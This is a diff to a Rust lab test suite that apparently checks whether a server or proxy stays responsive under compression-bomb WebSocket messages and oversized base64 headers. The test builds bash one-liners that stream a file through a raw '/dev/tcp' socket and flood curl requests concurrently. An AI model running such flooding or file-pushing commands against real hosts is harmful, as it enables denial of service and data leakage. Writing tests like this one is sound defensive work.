@@ -170,6 +170,30 @@ lab_tests! {
         }
     }
 
+    fn nobody_waits_for_messages_or_heads_of_which_much_is_made(lab) {
+        let thief = thief();
+        let bomb = archive(500);
+        let message = crate::streams::frame(0x82, bomb.get(..60_000).unwrap_or(&bomb));
+        let path = given(lab, "messages", &[crate::streams::HANDSHAKE.as_bytes(), &message.repeat(8)].concat());
+        let talks = format!("(exec 3<>/dev/tcp/{HOST}/{PORT}; cat {} >&3; timeout 20 cat <&3 >/dev/null; echo upload)", path.display());
+        let packed = given(lab, "packed", &bomb[..20_000]);
+        let heads = format!(
+            "(B=$(base64 -w0 {}); for i in 1 2 3 4 5 6 7 8; do curl -sS -o /dev/null -H \"X-A: $B\" $URL/get; done; echo upload)",
+            packed.display(),
+        );
+        for (name, attack) in [("messages", talks), ("heads", heads)] {
+            let script = format!(
+                "for i in 1 2 3 4; do {attack} & done; sleep 0.3; \
+                 for i in 1 2 3 4 5; do curl -sS -m 2 -o /dev/null $URL/get && echo small; done; kill $(jobs -p); wait",
+            );
+            let sandbox = confined(lab, Identity::Own).wrap(&["taskset", "-c", "0"]);
+            let outcome = sandbox.run(&bash(&script));
+            assert!(!thief.take_all().is_empty(), "{name}: {outcome}");
+            let small = outcome.stdout.lines().filter(|line| *line == "small").count();
+            assert_eq!(small, 5, "{name}: each waited two seconds at most: {outcome}");
+        }
+    }
+
     fn trailers_come_behind_all_of_it_or_not_at_all(lab) {
         let (thief, credential) = (thief(), Credential::new());
         let content = noise(3_000_000, 7);
